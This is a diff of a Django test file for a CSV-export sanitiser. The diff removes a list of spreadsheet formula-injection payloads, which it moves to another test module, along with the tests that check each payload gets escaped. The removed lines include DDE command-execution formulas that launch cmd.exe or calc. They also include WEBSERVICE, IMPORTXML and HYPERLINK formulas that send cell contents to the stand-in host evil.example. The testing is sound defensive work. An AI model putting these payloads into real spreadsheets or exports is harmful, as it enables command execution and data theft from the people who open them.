@@ -5,98 +5,16 @@ import zipfile
 
 import pytest
 from django.test import Client
-from hypothesis import given
-from hypothesis import strategies as st
 
-from goodword.doors.exports.harmless import harmless
+from goodword.kit.harmless import harmless
 from goodword.programme.advocates.actions.publish_findings import publish_findings
 from goodword.programme.team.actor import Actor
 from goodword.programme.team.models import User
 from goodword.programme.team.trail import record
 from tests.cast import Cast
 from tests.doors.exports.conftest import READERS, csv_rows, downloaded
+from tests.formulas import FORMS
 from tests.world import TODAY
-
-STARTS = (
-    "=",
-    "+",
-    "-",
-    "@",
-    "\t=",
-    "\r=",
-    "\n=",
-    "\r\n+",
-    " =",
-    "\u00a0=",
-    "\u200b=",
-    "\ufeff=",
-    "'=",
-    '"=',
-    "''+",
-    "|",
-)
-WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\u3000\uff1d", "\u2212", "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
-CALLS = (
-    "=cmd|' /C calc'!A0",
-    '=DDE("cmd";"/C calc";"x")',
-    '=HYPERLINK("https://evil.example/?"&A1;"click")',
-    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
-    '=WEBSERVICE("https://evil.example/"&A1)',
-    '=IMAGE("https://evil.example/x.png")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "=1+1",
-    "=A1",
-    "=-1",
-    "==1",
-    "=+1",
-    "+=1",
-    "-=1",
-    "@=1",
-    "=(1)",
-    "={1}",
-    '="a"&"b"',
-    "=RAND()",
-    "=rundll32|'URL.dll,OpenURL calc'!A",
-    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
-    "=SUM(A1:A9)*1",
-    '=EXEC("calc")',
-    "=LOOKUP(1,1)",
-    "+A1",
-    "-A1",
-    "@A1",
-    "- A1",
-    "+ A1",
-    "= 1",
-    "=\t1",
-    "=\n1",
-)
-FORMS = (*(f"{start}1+A1" for start in (*STARTS, *WIDE)), *CALLS)
-
-
-def test_there_are_sixty_forms() -> None:
-    assert len(set(FORMS)) == len(FORMS) >= 60
-
-
-@pytest.mark.parametrize("form", FORMS)
-def test_a_formula_is_guarded_and_nothing_of_it_is_lost(form: str) -> None:
-    assert harmless(form) == f"'{form}"
-
-
-@pytest.mark.parametrize("text", ["", "Ada", "a=b", "-5", "+49", "1,200.50", "-0.5", "12%", "Re: =x", "é", "#1", "3-4"])
-def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
-    assert harmless(text) == text
-
-
-@given(st.text())
-def test_no_cell_begins_like_a_formula(text: str) -> None:
-    told = harmless(text)
-    assert isinstance(told, str)
-    assert told in {text, f"'{text}"}
-    seen = told.lstrip()
-    if told == text and seen and seen[0] in "=+-@\t\r":
-        assert seen.strip("+-").replace(".", "").replace(",", "").rstrip("%").isdigit()
 
 
 def wicked() -> Cast:
